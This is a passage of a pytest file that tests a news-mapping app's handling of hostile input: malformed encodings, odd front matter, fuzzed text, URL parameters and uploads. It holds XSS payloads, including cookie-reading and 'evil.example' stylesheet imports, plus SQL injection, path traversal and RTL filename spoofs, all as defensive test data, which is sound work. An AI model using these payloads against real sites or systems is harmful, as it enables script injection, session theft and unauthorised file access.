"""Hostile input: nasty files, arbitrary text and bytes, XSS payloads, URL junk and uploads.

Four kinds of checks:

* the corpus in ``tests/data/hostile/`` (each file described in its README) goes through
  :func:`geo.ingest.pipeline.ingest` in one batch: the batch finishes, every file is ingested or
  skipped with a one-line reason, and the store stays readable;
* properties (hypothesis): reading, place finding, geocoding and URL parsing never raise on
  arbitrary unicode or bytes, except the documented :class:`geo.text.decoding.ArticleError`;
* an XSS matrix: payloads in titles, outlets, URLs, sentences and place names stay text in
  popups, tooltips, the rendered map, the standalone page, GeoJSON and the side panel;
* uploads: size, type and count limits, and file names that are only ever shown.
"""

from __future__ import annotations

import builtins
import codecs
import csv
import datetime as dt
import errno
import io
import json
import os
import re
import tomllib
import unicodedata
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import geopandas as gpd
import pytest
import xstatic.pkg.leaflet
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from shapely.geometry import Point, box

import geo.store.store as store_module
from geo.ingest import uploads
from geo.ingest.pipeline import ingest
from geo.ingest.uploads import (
    MAX_FILES,
    MAX_UPLOAD_BYTES,
    UPLOAD_SUFFIXES,
    UploadProblem,
    add_to_store,
    articles_from_files,
    may_edit,
    safe_name,
)
from geo.layers.export import layer_to_csv, layer_to_geojson
from geo.places.geocode import Geocoder, Resolution, geocode, suggest
from geo.places.names import INVISIBLE_CHARS
from geo.store.store import Store
from geo.text.articles import Article, article_from_bytes, article_from_text, read_article
from geo.text.decoding import MAX_ARTICLE_BYTES, ArticleError, decode_file
from geo.text.mentions import PlaceFinder, find_mentions
from geo.view.link import (
    MAX_VALUE_LENGTH,
    PARAM_NAMES,
    parse_state,
    state_from_query_string,
    to_query,
    to_query_string,
)
from geo.view.map import MapLayers, build_map, standalone_html
from geo.view.panel import Selection, describe, escape_markdown, find_selection
from geo.view.popups import (
    event_popup,
    event_tooltip,
    office_popup,
    office_tooltip,
    place_popup,
    place_tooltip,
    zone_popup,
    zone_tooltip,
)
from geo.view.state import (
    LAYER_KEYS,
    StateWarning,
    ViewState,
)

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"
CORPUS = sorted(p for p in HOSTILE.iterdir() if p.name != "README.md")
ASSET_BASE = "/app/static"
ALL_LAYERS = frozenset(LAYER_KEYS)
MIB = 1024 * 1024
LEAFLET = (Path(xstatic.pkg.leaflet.BASE_DIR) / "leaflet.js").read_text(encoding="utf-8")

INGESTED, SKIPPED, EITHER = "ingested", "skipped", "either"

#: What happens to each corpus file: ingested, or skipped with a reason matching the pattern;
#: "either" for HTML whose fate is trafilatura's (a skip must then blame the HTML).
EXPECTED: dict[str, tuple[str, str]] = {
    "binary_junk.txt": (SKIPPED, "binary file"),
    "binary_no_nul.md": (SKIPPED, "binary file"),
    "nul_bytes.txt": (SKIPPED, "binary file"),
    "control_chars.txt": (SKIPPED, "binary file"),
    "empty.md": (SKIPPED, "empty file"),
    "only_whitespace.txt": (SKIPPED, "empty file"),
    "utf16le_no_bom.txt": (SKIPPED, "binary file"),
    "utf16be_no_bom.md": (SKIPPED, "binary file"),
    "utf16_bom_front_matter.md": (INGESTED, ""),
    "utf32_bom.txt": (INGESTED, ""),
    "bom_front_matter.md": (INGESTED, ""),
    "bad_utf8_after_bom.txt": (SKIPPED, "not valid UTF-8 text"),
    "mixed_cp1252_utf8.txt": (INGESTED, ""),
    "utf8_surrogate_bytes.txt": (INGESTED, ""),
    "mixed_newlines.txt": (INGESTED, ""),
    "deep_nesting.html": (EITHER, "HTML"),
    "unclosed_tags.html": (EITHER, "HTML"),
    "script_style_svg.html": (INGESTED, ""),
    "only_scripts.html": (SKIPPED, "no article text found in the HTML"),
    "javascript_canonical.html": (INGESTED, ""),
    "script_in_markdown.md": (INGESTED, ""),
    "xss_front_matter.md": (INGESTED, ""),
    "front_matter_wrong_types.md": (INGESTED, ""),
    "front_matter_is_list.md": (SKIPPED, "front matter is a list, not a mapping"),
    "front_matter_python_tag.md": (SKIPPED, "front matter is not valid YAML"),
    "front_matter_only.md": (SKIPPED, "no article text after the front matter"),
    "front_matter_unclosed.md": (INGESTED, ""),
    "front_matter_deep.md": (SKIPPED, "front matter is not valid YAML"),
    "front_matter_alias_bomb.md": (INGESTED, ""),
    "front_matter_alias_bomb_published.md": (INGESTED, ""),
    "front_matter_self_alias.md": (INGESTED, ""),
    "date_0001-01-01.md": (INGESTED, ""),
    "date_9999-12-31.md": (INGESTED, ""),
    "date_2023-02-30.md": (INGESTED, ""),
    "date_garbage.md": (INGESTED, ""),
    "long_title.md": (INGESTED, ""),
    "rtl_title.md": (INGESTED, ""),
    "zero_width_places.txt": (INGESTED, ""),
    "rtl_override_places.txt": (INGESTED, ""),
    "homoglyph_places.txt": (INGESTED, ""),
    "..%2F..%2Fetc%2Fpasswd.md": (INGESTED, ""),
    "huge_single_line.txt": (INGESTED, ""),
}


def _outcome(read: Any, *args: Any, **kwargs: Any) -> Any:
    """Return what `read` returns, or the `ArticleError` it raises."""
    try:
        return read(*args, **kwargs)
    except ArticleError as error:
        return error


def _one_line(reason: str) -> bool:
    return bool(reason.strip()) and "\n" not in reason and "\r" not in reason


def _check_article(article: Article) -> None:
    """Check what every article must satisfy, however hostile its file."""
    assert article.text.strip()
    article.text.encode("utf-8")  # no lone surrogate can reach the store
    article.title.encode("utf-8")
    assert article.url is None or re.match(r"https?://", article.url, re.IGNORECASE)
    assert article.published is None or 1900 <= article.published.year <= 2100
    assert re.fullmatch(r"[A-Za-z]{2,3}(?:-[A-Za-z0-9]{1,8})*", article.language)
    assert all(_one_line(w) for w in article.warnings)
    assert all(isinstance(v, str) for v in article.extra.values())


# ---------------------------------------------------------------------------------------------
# the corpus


def test_every_corpus_file_has_an_expected_outcome_and_a_readme_entry() -> None:
    assert sorted(p.name for p in CORPUS) == sorted(EXPECTED)
    readme = (HOSTILE / "README.md").read_text(encoding="utf-8")
    assert [name for name in EXPECTED if f"`{name}`" not in readme] == []
    assert len(CORPUS) >= 25


def test_the_committed_corpus_stays_small() -> None:
    assert sum(p.stat().st_size for p in HOSTILE.iterdir()) < 2 * MIB


@pytest.mark.parametrize("path", CORPUS, ids=lambda p: p.name)
def test_each_file_is_read_or_rejected_with_a_clear_reason(path: Path) -> None:
    outcome, pattern = EXPECTED[path.name]
    article = _outcome(read_article, path)
    if isinstance(article, ArticleError):
        assert outcome in {SKIPPED, EITHER}, f"{path.name} was skipped: {article.reason}"
        assert re.search(pattern, article.reason), article.reason
        assert _one_line(str(article))
        assert str(article) == f"{path}: {article.reason}"
        return
    assert outcome in {INGESTED, EITHER}, f"{path.name} was read but should be skipped"
    _check_article(article)
    assert article.source == str(path)
    if article.body_offset is not None:
        assert decode_file(path)[article.body_offset :] == article.text


def _read(name: str) -> Article:
    return read_article(HOSTILE / name)


def test_byte_order_marks_and_wide_encodings_keep_the_front_matter() -> None:
    utf16 = _read("utf16_bom_front_matter.md")
    assert (utf16.title, utf16.outlet, utf16.published) == (
        "Patrols near Okinawa",
        "Ryukyu Post",
        dt.date(2023, 4, 2),
    )
    utf8 = _read("bom_front_matter.md")
    assert (utf8.title, utf8.published) == ("Drills off Busan", dt.date(2023, 3, 14))
    assert _read("utf32_bom.txt").text.startswith("Ukrainian drones struck a fuel depot")


def test_mixed_utf8_and_cp1252_read_right() -> None:
    """Regression: one byte cp1252 leaves undefined (here inside UTF-8 "ō") made the whole file
    latin-1, turning both "Tōkyō" and the cp1252 quotes into control characters."""
    text = _read("mixed_cp1252_utf8.txt").text
    assert text == (
        "Officials in Tōkyō said “the situation in the Taiwan Strait” – a café rumour – had "
        "calmed; Wrocław agreed.\n"
    )


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("Kraków talks".encode() + b" \x93resumed\x94", "Kraków talks “resumed”"),
        (b"caf\xe9 in N\xeemes", "café in Nîmes"),
        (b"Z\xfcrich talks\x81 resumed.", "Zürich talks\x81 resumed."),
        (b"\xe2\x80 broken dash", "â€ broken dash"),
    ],
)
def test_bytes_that_are_not_utf8_are_read_one_by_one_as_cp1252(data: bytes, expected: str) -> None:
    article = article_from_bytes(data, source="mixed.txt")
    assert article.text == expected


def test_other_encoding_faults_are_read_sensibly() -> None:
    surrogates = _read("utf8_surrogate_bytes.txt").text
    assert surrogates.startswith("Ships left Manila ")
    assert surrogates.endswith(" for the South China Sea on Friday.\n")
    assert "\r" not in _read("mixed_newlines.txt").text


def test_markup_never_reaches_the_text_of_an_html_article() -> None:
    for name in ("script_style_svg.html", "javascript_canonical.html"):
        article = _read(name)
        assert "alert" not in article.text
        assert "<" not in article.text
        assert article.url is None
    assert "Houthi forces fired missiles" in _read("script_style_svg.html").text


def test_markup_in_markdown_stays_verbatim_text() -> None:
    text = _read("script_in_markdown.md").text
    assert "<script>alert(1)</script>" in text
    assert "<svg onload=alert(1)>" in text


def test_xss_front_matter_keeps_text_and_drops_the_javascript_url() -> None:
    article = _read("xss_front_matter.md")
    assert article.title == "<script>alert('title')</script>"
    assert article.outlet == '<img src=x onerror=alert("outlet")>'
    assert article.url is None
    assert article.language == "en"
    assert any("not an http(s) address" in w for w in article.warnings)
    assert any("not a language tag" in w for w in article.warnings)


def test_front_matter_with_wrong_types_warns_field_by_field() -> None:
    article = _read("front_matter_wrong_types.md")
    assert article.title.startswith("Japanese and Philippine officials met in Manila")
    assert (article.outlet, article.author, article.published, article.url) == (None,) * 4
    joined = " | ".join(article.warnings)
    for field in ("title is a list", "outlet is a mapping", "author is a mapping", "url is a list"):
        assert field in joined
    assert "20230510 is a number" in joined
    assert json.loads(article.extra["tags"]) == {"a": [1, 2, {"b": None}]}
    assert article.extra["True"] == "false"
    assert article.extra["3"] == "three"


@pytest.mark.parametrize(
    ("name", "warning"),
    [
        ("date_0001-01-01.md", "outside the years 1900–2100"),
        ("date_9999-12-31.md", "outside the years 1900–2100"),
        ("date_2023-02-30.md", "not a valid date"),
        ("date_garbage.md", "is not a date like"),
    ],
)
def test_dates_out_of_range_are_dropped_with_a_warning(name: str, warning: str) -> None:
    article = _read(name)
    assert article.published is None
    assert any(warning in w for w in article.warnings), article.warnings


def test_python_tags_in_front_matter_never_run(monkeypatch: pytest.MonkeyPatch) -> None:
    commands: list[str] = []
    monkeypatch.setattr(os, "system", commands.append)
    with pytest.raises(ArticleError, match="could not determine a constructor"):
        _read("front_matter_python_tag.md")
    assert commands == []


def _place_ids(finder: PlaceFinder, name: str) -> list[str]:
    text = _read(name).text
    places = find_mentions(text, finder=finder).places
    for mention in places:
        assert text[mention.start : mention.end] == mention.text
    return [m.place.id for m in places]


def test_zero_width_characters_inside_place_names(finder: PlaceFinder) -> None:
    """Regression: a zero-width space split "Sea\u200b of Japan" into the country Japan."""
    ids = _place_ids(finder, "zero_width_places.txt")
    assert ids.count("ne:sea:sea-of-japan") == 2
    assert "ne:country:JPN" not in ids
    assert "gn:1835848" in ids  # Seoul, after a word joiner


def test_right_to_left_controls_around_place_names(finder: PlaceFinder) -> None:
    ids = _place_ids(finder, "rtl_override_places.txt")
    assert {"ne:country:UKR", "ne:country:POL"} <= set(ids)
    assert len(ids) == 4  # Ukraine, Kyiv, Warsaw, Poland


def test_homoglyph_names_are_not_taken_for_the_real_place(finder: PlaceFinder) -> None:
    ids = _place_ids(finder, "homoglyph_places.txt")
    assert ids == ["ne:country:UKR"]  # only the real "Ukraine" at the end


def test_hostile_batch_completes_and_the_store_stays_readable(
    tmp_path: Path, finder: PlaceFinder
) -> None:
    big = tmp_path / "fifty_megabytes.txt"
    sentence = b"Chinese and Russian warships held joint patrols in the East China Sea. "
    with big.open("wb") as stream:
        for _ in range(50 * MIB // len(sentence) + 1):
            stream.write(sentence)
    missing = tmp_path / "missing.md"
    paths = [*CORPUS, big, missing]
    store = Store.open(tmp_path / "store")

    report = ingest(paths, store, finder=finder)

    reasons = {skip.source: skip.reason for skip in report.skipped}
    assert all(_one_line(reason) for reason in reasons.values()), reasons
    assert re.search(r"over the .* limit", reasons[str(big)])
    assert reasons[str(missing)] == "no such file"
    stored = store.read_all()
    sources = list(stored.articles["source"])
    assert len(sources) == len(set(sources)) == report.articles
    for path in CORPUS:
        outcome, pattern = EXPECTED[path.name]
        ingested, skipped = str(path) in sources, str(path) in reasons
        assert ingested != skipped, path.name
        assert outcome == EITHER or ingested == (outcome == INGESTED), path.name
        if skipped:
            assert re.search(pattern, reasons[str(path)]), (path.name, reasons[str(path)])
    assert report.duplicates == 0
    assert store.check(deep=True) == []
    assert "\\u003c" in layer_to_geojson(stored.articles.assign(geometry=None))
    assert "<" not in layer_to_geojson(stored.events)

    again = ingest(paths, store, finder=finder)
    assert (again.articles, again.duplicates) == (0, report.articles)
    assert again.version == report.version


# ---------------------------------------------------------------------------------------------
# properties: arbitrary text and bytes never raise

ANY_CHAR = st.characters(exclude_categories=())  # surrogates, controls, unassigned: all of it
INVISIBLE = [ch for ch in map(chr, range(0x10000)) if re.fullmatch(f"[{INVISIBLE_CHARS}]", ch)]
NAMES = ["Japan", "Sea of Japan", "Ukraine", "Tokyo", "South China Sea", "Senkaku Islands"]
NASTY = [
    "\u200b",
    "\u200d",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\u00ad",
    "\x00",
    "\ud800",
    "\udfff",
    "а",  # Cyrillic a
    "<script>",
    "'s",
    "’",
    "U.S.",
    "\n",
    "\r\n",
    " ",
    ",",
    "the",
    "of",
]
texts = st.one_of(
    st.text(ANY_CHAR, max_size=300),
    st.lists(st.sampled_from([*NAMES, *NASTY]), max_size=40).map("".join),
)


@settings(max_examples=150, deadline=None)
@given(texts)
def test_find_mentions_never_raises_and_offsets_hold(finder: PlaceFinder, text: str) -> None:
    mentions = find_mentions(text, finder=finder)
    spans = [(m.start, m.end, m.text) for m in mentions.places]
    spans += [(m.start, m.end, m.text) for m in mentions.actors]
    assert all(text[start:end] == surface for start, end, surface in spans)


@st.composite
def laced_names(draw: st.DrawFn) -> tuple[str, str]:
    """A known place name with invisible characters put anywhere in it."""
    name = draw(st.sampled_from(NAMES))
    positions = draw(st.lists(st.integers(0, len(name)), min_size=1, max_size=4))
    laced = name
    for position in sorted(positions, reverse=True):
        laced = laced[:position] + draw(st.sampled_from(INVISIBLE)) + laced[position:]
    return name, laced


@settings(max_examples=120, deadline=None)
@given(laced_names())
def test_names_read_through_invisible_characters(
    finder: PlaceFinder, geocoder: Geocoder, pair: tuple[str, str]
) -> None:
    name, laced = pair
    clean = [m.place.id for m in finder.find(f"Ships sailed to {name} on Monday.").places]
    found = find_mentions(f"Ships sailed to {laced} on Monday.", finder=finder).places
    assert [m.place.id for m in found] == clean
    expected = geocode(name, geocoder=geocoder)
    resolved = geocode(laced, geocoder=geocoder)
    assert expected is not None
    assert resolved is not None
    assert resolved.place.id == expected.place.id


names = st.one_of(
    st.text(ANY_CHAR, max_size=60),
    st.text(ANY_CHAR, min_size=195, max_size=205),
    st.lists(st.sampled_from([*NAMES, *NASTY]), max_size=8).map("".join),
)


@settings(max_examples=200, deadline=None)
@given(names, st.integers(-3, 12))
def test_geocode_and_suggest_never_raise(geocoder: Geocoder, name: str, limit: int) -> None:
    resolution = geocode(name, geocoder=geocoder)
    assert resolution is None or isinstance(resolution, Resolution)
    suggestions = suggest(name, limit=limit, geocoder=geocoder)
    assert len(suggestions) <= max(limit, 0)
    assert all(0.0 <= s.similarity <= 1.0 for s in suggestions)


def test_a_negative_suggestion_limit_gives_none(geocoder: Geocoder) -> None:
    """Regression: ``limit=-1`` reached rapidfuzz, which raised a C++ RuntimeError."""
    assert suggest("Japn", limit=-1, geocoder=geocoder) == []
    assert suggest("Japn", limit=0, geocoder=geocoder) == []


metadata = st.one_of(st.none(), st.text(ANY_CHAR, max_size=40), st.sampled_from(NASTY))


@settings(max_examples=150, deadline=None)
@given(
    st.text(ANY_CHAR, max_size=300),
    metadata,
    metadata,
    st.one_of(metadata, st.dates(), st.sampled_from(["2023-02-30", "0001-01-01", "9999-12-31"])),
    metadata,
    st.one_of(st.text(ANY_CHAR, max_size=12), st.sampled_from(["en", "pt-BR", "x" * 200])),
)
def test_article_from_text_never_raises_but_article_error(
    text: str,
    title: str | None,
    outlet: str | None,
    published: Any,
    url: str | None,
    language: str,
) -> None:
    article = _outcome(
        article_from_text,
        text,
        title=title,
        outlet=outlet,
        published=published,
        url=url,
        language=language,
    )
    if isinstance(article, ArticleError):
        assert _one_line(str(article))
        return
    _check_article(article)
    for value in (article.outlet, article.author):
        (value or "").encode("utf-8")


def test_unpaired_surrogates_in_pasted_text_are_replaced() -> None:
    """Regression: a lone surrogate made `article_id` raise UnicodeEncodeError."""
    article = article_from_text("Talks in Ja\ud800pan resumed.", title="Ja\udfffpan")
    assert article.text == "Talks in Ja\ufffdpan resumed."
    assert article.title == "Ja\ufffdpan"
    assert article.warnings == ("1 unpaired surrogate(s) in the text replaced by U+FFFD",)


SUFFIXES = st.sampled_from([".txt", ".md", ".html", ".htm", "", ".bin", ".MD", ".HTML"])
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-32", "cp1252", "latin-1", "utf-16-le"]


@st.composite
def article_bytes(draw: st.DrawFn) -> bytes:
    """Random bytes, or text shaped like an article file (front matter, HTML) in any encoding."""
    kind = draw(st.sampled_from(["bytes", "front matter", "html", "text"]))
    if kind == "bytes":
        return draw(st.binary(max_size=400))
    body = draw(st.text(ANY_CHAR, max_size=200))
    if kind == "front matter":
        head = draw(st.text(st.sampled_from("abc: -[]{}&*!|>'\"\n\t#%@`0123456789"), max_size=80))
        body = f"---\n{head}\n---\n{body}"
    elif kind == "html":
        tags = draw(st.lists(st.sampled_from(["<p>", "</p>", "<div>", "<script>", "<svg"])))
        body = f"<!DOCTYPE html><html><body>{''.join(tags)}{body}</body></html>"
    encoding = draw(st.sampled_from(ENCODINGS))
    return body.encode(encoding, errors="surrogatepass" if "utf" in encoding else "replace")


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(article_bytes(), SUFFIXES)
def test_article_from_bytes_never_raises_but_article_error(data: bytes, suffix: str) -> None:
    article = _outcome(article_from_bytes, data, source=f"upload{suffix}")
    if isinstance(article, ArticleError):
        assert _one_line(str(article))
        assert article.path == f"upload{suffix}"
        return
    _check_article(article)


# --- URL parameters --------------------------------------------------------------------------

URL_VALUES = [
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "'; DROP TABLE events; --",
    "../../etc/passwd",
    "\u202eevents",
    "events,\x00places",
    "9" * (MAX_VALUE_LENGTH + 1),
    "1" * MAX_VALUE_LENGTH,
    "1e309",
    "-0",
    "0x1F",
    "９",  # full-width nine
    "٣",  # Arabic-Indic three
    "2023-02-30",
    "ev-1",
    "%3Cscript%3E",
    "\ud800",
]
url_texts = st.one_of(st.text(ANY_CHAR, max_size=40), st.sampled_from(URL_VALUES))
url_queries = st.dictionaries(
    st.one_of(st.sampled_from(PARAM_NAMES), st.text(ANY_CHAR, max_size=8)),
    st.one_of(url_texts, st.lists(url_texts, max_size=4)),
    max_size=14,
)


def _small_layers(text: str = "Sea of Japan") -> MapLayers:
    events = gpd.GeoDataFrame(
        [_event_record("ev-1", sentence=f"Ships sailed in the {text}.", place_names=[text])],
        geometry="geometry",
        crs="EPSG:4326",
    )
    zones = gpd.GeoDataFrame(
        [_zone_record(text)],
        geometry="geometry",
        crs="EPSG:4326",
    )
    return MapLayers(events=events, zones=zones)


def _is_a_map_page(page: str) -> bool:
    return 'class="folium-map"' in page and "L.map(" in page


@settings(max_examples=40, deadline=None)
@given(url_queries)
def test_any_url_gives_a_valid_view_and_a_map_page(query: dict[str, Any]) -> None:
    state, warnings = parse_state(query)
    assert isinstance(state, ViewState)
    assert all(isinstance(w, StateWarning) for w in warnings)
    assert all(isinstance(getattr(w, f), str) for w in warnings for f in ("param", "value"))
    assert parse_state(to_query(state)) == (state, [])
    layers = _small_layers()
    find_selection(layers, state.selected)
    page = str(build_map(layers, state, asset_base=ASSET_BASE).get_root().render())
    assert _is_a_map_page(page)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(["&", "=", "%", "%2", "%ZZ", "%00", "+", "z", "layers", "q", "9"])))
def test_any_query_string_gives_a_valid_view(parts: list[str]) -> None:
    state, _ = state_from_query_string("".join(parts))
    assert isinstance(state, ViewState)
    assert state_from_query_string(to_query_string(state)) == (state, [])


def test_repeated_huge_and_injected_parameters_each_warn() -> None:
    state, warnings = parse_state(
        {
            "z": ["3", "4", "<script>"],
            "q": "x" * (MAX_VALUE_LENGTH + 1),
            "sel": "'; DROP TABLE events; --",
            "layers": "\u202eevents",
            "lat": "９",
        }
    )
    assert state.zoom == ViewState().zoom  # the last value, "<script>", is not a zoom
    assert state.query is None
    assert state.selected is None
    assert state.lat == ViewState().lat
    assert {w.param for w in warnings} == {"z", "q", "sel", "layers", "lat"}
    assert all(_one_line(w.message) for w in warnings)


# ---------------------------------------------------------------------------------------------
# XSS matrix

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    " JaVaScRiPt:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "`${alert(1)}`",
    "[click](javascript:alert(1))",
    'https://example.org/"onmouseover="alert(1)',
    "\u202e<b>gpj.exe</b>",
]
FIELDS = ["title", "outlet", "url", "sentence", "place"]
MARKUP = re.compile(r"[<>\"']")
JS_LINK = re.compile(r"(?:href|src|action)\s*=\s*\\?[\"']?\s*(?:javascript|data|vbscript):", re.I)
WEB_URL = re.compile(r"https?://[^\s\x00-\x1f\x7f]+", re.IGNORECASE)
POPUP_TAGS = {"div", "span", "h4", "blockquote", "mark", "a"}
POPUP_ATTRIBUTES = {"class", "style", "data-fl-id", "href", "target", "rel"}
STYLE = re.compile(r"(?:width:\d+px;)?background:#[0-9a-fA-F]{6}")


def _event_record(event_id: str, **fields: Any) -> dict[str, Any]:
    record: dict[str, Any] = {
        "id": event_id,
        "article_id": "art-1",
        "type": "patrol",
        "date_start": dt.date(2023, 5, 9),
        "date_end": dt.date(2023, 5, 9),
        "date_precision": "day",
        "actors": ["PRK"],
        "place_ids": ["ne:sea:sea-of-japan"],
        "place_names": ["Sea of Japan"],
        "sentence": "Ships sailed in the Sea of Japan on Tuesday.",
        "span_start": 0,
        "span_end": 44,
        "confidence": 0.9,
        "origin": "extracted",
        "modality": "happened",
        "title": "Ships in the sea",
        "outlet": "Harbour Gazette",
        "published": "2023-05-10",
        "url": "https://example.org/news/ships",
        "geometry": Point(134.0, 40.0),
    }
    record.update(fields)
    return record


def _zone_record(name: str) -> dict[str, Any]:
    return {
        "id": "zn-1",
        "name": name,
        "kind": "territorial_dispute",
        "parties": ["JPN", "CHN"],
        "severity": 0.5,
        "event_ids": ["ev-1"],
        "geometry": box(123, 25, 124, 26),
    }


def _place_record(name: str) -> dict[str, Any]:
    return {
        "id": "ne:sea:sea-of-japan",
        "name": name,
        "kind": "sea",
        "country_codes": ["JP"],
        "disputed_by": [],
        "mentions": 2,
        "geometry": box(130, 35, 140, 45),
    }


def _office_record(city: str) -> dict[str, Any]:
    return {
        "id": "of-1",
        "org": "NATO",
        "host_place_id": "ne:country:JPN",
        "host_name": "Japan",
        "city": city,
        "status": "proposed",
        "article_ids": ["art-1"],
        "geometry": Point(139.7, 35.7),
    }


def _hostile_event(field: str, payload: str, event_id: str = "ev-1") -> dict[str, Any]:
    if field == "sentence":
        return _event_record(event_id, sentence=f"Ships {payload} sailed in the Sea of Japan.")
    if field == "place":
        return _event_record(
            event_id, sentence=f"Ships sailed near {payload} today.", place_names=[payload]
        )
    return _event_record(event_id, **{field: payload})


def _frame(records: list[dict[str, Any]]) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(records, geometry="geometry", crs="EPSG:4326")


def _hostile_layers(payload: str) -> MapLayers:
    """Every field of the matrix carrying `payload`, one event per field."""
    events = [_hostile_event(field, payload, f"ev-{field}") for field in FIELDS]
    return MapLayers(
        events=_frame(events),
        offices=_frame([_office_record(payload)]),
        zones=_frame([_zone_record(payload)]),
        places=_frame([_place_record(payload)]),
        basemap=_frame([{"geometry": box(130, 31, 141, 41)}]),
    )


class _Markup(HTMLParser):
    """Collect the tags, attributes and text of an HTML fragment."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.texts: list[str] = []
        self.other: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"processing instruction {data!r}")

    @property
    def text(self) -> str:
        return "".join(self.texts)


def _check_fragment(markup: str) -> _Markup:
    """Check a popup or tooltip holds only our markup, and return what it holds."""
    parsed = _Markup(markup)
    assert set(parsed.tags) <= POPUP_TAGS, parsed.tags
    assert parsed.other == []
    for name, value in parsed.attributes:
        assert name in POPUP_ATTRIBUTES, (name, value)
        if name == "href":
            assert WEB_URL.fullmatch(value or ""), value
        if name == "style":
            assert STYLE.fullmatch(value or ""), value
    return parsed


def _shown(payload: str, field: str) -> str:
    return payload.strip() if field in {"title", "url"} else payload


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text_in_event_popups_and_tooltips(payload: str, field: str) -> None:
    record = _hostile_event(field, payload)
    popup = _check_fragment(event_popup(record))
    tooltip = _check_fragment(event_tooltip(record))
    links = [value for name, value in popup.attributes if name == "href"]
    if field == "url" and WEB_URL.fullmatch(payload.strip()):
        assert links == [payload.strip()]  # an http(s) address is a link, quotes and all
    else:
        assert _shown(payload, field) in popup.text  # shown as text ...
        assert links == ([] if field == "url" else ["https://example.org/news/ships"])
    if field == "place":
        assert payload in tooltip.text
    if MARKUP.search(payload):
        assert payload not in event_popup(record)  # ... never as markup


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text_in_place_zone_and_office_popups(payload: str) -> None:
    fragments = [
        (place_popup(_place_record(payload)), place_tooltip(_place_record(payload))),
        (zone_popup(_zone_record(payload)), zone_tooltip(_zone_record(payload))),
        (office_popup(_office_record(payload)), office_tooltip(_office_record(payload))),
    ]
    for popup, tooltip in fragments:
        for markup in (popup, tooltip):
            assert payload.strip() in _check_fragment(markup).text
            if MARKUP.search(payload):
                assert payload not in markup


class _Scripts(HTMLParser):
    """Collect the code of a page's inline scripts."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=False)
        self.inside = False
        self.code: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self.inside = False

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.code.append(data)


JSON_STRING = re.compile(r'"(?:[^"\\\n]|\\.)*"')


def _bound_fragments(page: str) -> list[str]:
    """Return the popup and tooltip HTML the page's scripts carry, decoded from JSON strings."""
    found = []
    for code in _Scripts(page).code:
        code = code.replace("<\\!--", "<!--")  # written so for <script>; not a JSON escape
        for literal in JSON_STRING.findall(code):
            value = json.loads(literal)
            if value.startswith(('<div class="fl-popup', '<span class="fl-tooltip')):
                found.append(value)
    return found


def _page_tags(page: str) -> Counter[str]:
    return Counter(_Markup(page).tags)


def _check_page(page: str, clean: str, payload: str) -> None:
    if MARKUP.search(payload):
        assert payload not in page
    assert not JS_LINK.search(page)
    assert _page_tags(page) == _page_tags(clean)  # the payload made no element
    fragments = _bound_fragments(page)
    assert len(fragments) == len(_bound_fragments(clean)) > 0
    shown = " ".join(_check_fragment(fragment).text for fragment in fragments)
    for field in FIELDS:
        if not (field == "url" and WEB_URL.fullmatch(payload.strip())):
            assert _shown(payload, field) in shown


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("selected", [None, "ev-sentence"])
def test_payloads_stay_text_in_the_rendered_map(payload: str, selected: str | None) -> None:
    view = ViewState(layers=ALL_LAYERS, selected=selected)
    page = str(build_map(_hostile_layers(payload), view, asset_base=ASSET_BASE).get_root().render())
    clean = str(
        build_map(_hostile_layers("benign"), view, asset_base=ASSET_BASE).get_root().render()
    )
    _check_page(page, clean, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text_in_the_standalone_page(payload: str) -> None:
    view = ViewState(layers=ALL_LAYERS, selected="ev-title")
    page = standalone_html(_hostile_layers(payload), view)
    clean = standalone_html(_hostile_layers("benign"), view)
    assert LEAFLET in page
    _check_page(page.replace(LEAFLET, ""), clean.replace(LEAFLET, ""), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_round_trip_through_geojson_without_markup(payload: str) -> None:
    layers = _hostile_layers(payload)
    for frame in (layers.events, layers.zones, layers.places, layers.offices):
        text = layer_to_geojson(frame)
        assert "<" not in text
        assert ">" not in text
        values = [
            item
            for feature in json.loads(text)["features"]
            for value in feature["properties"].values()
            for item in (value if isinstance(value, list) else [value])
        ]
        assert payload in values
    events = {
